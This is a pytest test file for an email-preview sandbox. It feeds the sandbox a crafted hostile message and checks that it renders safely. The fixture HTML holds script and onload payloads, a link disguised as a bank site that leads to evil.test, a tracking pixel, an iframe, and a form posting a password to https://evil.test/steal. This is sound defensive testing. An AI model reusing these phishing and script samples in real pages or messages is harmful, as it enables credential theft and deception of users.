"""A message full of what loads, runs and leads away comes out of the real jail as words and pixels."""

import asyncio
import io
from dataclasses import replace
from email.message import EmailMessage
from typing import Any

import pytest
from PIL import Image
from reportlab.pdfgen.canvas import Canvas

from mailock.config.node import Node
from mailock.ports.bodies import in_memory
from mailock.ports.viewer import Block, BlockKind, Preview
from mailock.processes.means import means_of
from mailock.processes.reading import reading_jail
from mailock.processes.viewing import Viewing

PAGE = """<html><head><title>x</title><style>p{display:none}</style><script>alert(1)</script></head>
<body onload="alert(2)"><h1>Your <i>invoice</i></h1><p style="display:none">Hidden words</p>
<table><tr><td>Item</td><td>Price</td></tr></table><a href="https://evil.test/login?q=1">www.bank.test</a>
<img src="https://track.test/p.gif?id=7" alt="a logo"><img src="cid:code@x"><iframe src="https://evil.test/"></iframe>
<form action="https://evil.test/steal"><input type="password" value="pw"></form><pre>a
 b</pre></body></html>"""


def picture(kind: str, colour: tuple[int, int, int]) -> bytes:
    """A small picture."""
    out = io.BytesIO()
    Image.new("RGB", (40, 20), colour).save(out, kind)
    return out.getvalue()


def paper() -> bytes:
    """A PDF of one page."""
    out = io.BytesIO()
    canvas = Canvas(out, pagesize=(200, 100))
    canvas.drawString(10, 50, "Pay now")
    canvas.save()
    return out.getvalue()


def letter() -> bytes:
    """The message."""
    made = EmailMessage()
    made["Subject"] = "Hello"
    made.set_content("Plain words\nsecond line\u202eturned")
    made.add_alternative(PAGE, subtype="html")
    html: Any = made.get_payload(1)
    html.add_related(picture("PNG", (255, 0, 0)), "image", "png", cid="<code@x>")
    made.add_attachment(picture("JPEG", (0, 0, 255)), maintype="image", subtype="jpeg", filename="a.jpg")
    made.add_attachment(b"GIF89a broken", maintype="image", subtype="gif", filename="b.gif")
    made.add_attachment(paper(), maintype="application", subtype="pdf", filename="invoice.pdf")
    return made.as_bytes().replace(b"\n", b"\r\n")


@pytest.fixture(scope="module")
def seen() -> Preview:
    """What came out."""
    means = replace(means_of(Node()), workers=1)
    return asyncio.run(Viewing(lambda: reading_jail(means)).view(in_memory(letter())))


def of(seen: Preview, media: str) -> list[Block]:
    """The blocks of the passage of a type."""
    return [block for one in seen.passages if one.media == media for block in one.blocks]


def test_html_is_read_out_with_what_it_hides_and_where_it_leads(seen: Preview) -> None:
    blocks = of(seen, "text/html")
    text = "\n".join("".join(run.text for run in block.runs) for block in blocks)
    assert blocks[0].kind is BlockKind.HEADING
    assert "Your invoice" in text
    assert "Hidden words" in text
    assert "alert" not in text
    assert "Item \N{MIDDLE DOT} Price" in text
    assert ("www.bank.test", "https://evil.test/login?q=1") in [(r.text, r.leads) for b in blocks for r in b.runs]
    assert "[picture: a logo, not loaded from https://track.test/p.gif?id=7]" in text
    assert "[a form that sends to https://evil.test/steal]" in text
    assert "[input password pw]" in text
    assert "a\n b" in text
    (shown,) = [block.part for block in blocks if block.kind is BlockKind.PICTURE]
    assert shown in [one.part for one in seen.pictures]


def test_plain_text_keeps_its_lines_and_loses_marks_that_turn_it(seen: Preview) -> None:
    (block,) = of(seen, "text/plain")
    assert (block.kind, block.runs[0].text.rstrip("\n")) == (
        BlockKind.PLAIN,
        "Plain words\nsecond line\N{REPLACEMENT CHARACTER}turned",
    )


def test_pictures_are_ours_and_what_is_broken_is_named(seen: Preview) -> None:
    colours: list[Any] = []
    for one in seen.pictures:
        assert one.png.count(b"IDAT") == 1
        with Image.open(io.BytesIO(one.png), formats=("PNG",)) as opened:
            opened.load()
            assert opened.size == (one.width, one.height)
            colours.append(opened.convert("RGB").getpixel((0, 0)))
    assert colours[0] == (255, 0, 0)
    red, _, blue = colours[1]
    assert (red < 10, blue > 240) == (True, True)
    assert (len(colours), colours[2]) == (3, (255, 255, 255))
    (broken,) = [one.part for one in seen.pieces if one.name == "b.gif"]
    assert [note for note in seen.notes if broken in note] == [
        f"Part {broken} is not shown: it is no picture that can be read."
    ]


def test_all_parts_are_listed(seen: Preview) -> None:
    assert [(one.media, one.name) for one in seen.pieces if one.name] == [
        ("image/jpeg", "a.jpg"),
        ("image/gif", "b.gif"),
        ("application/pdf", "invoice.pdf"),
    ]
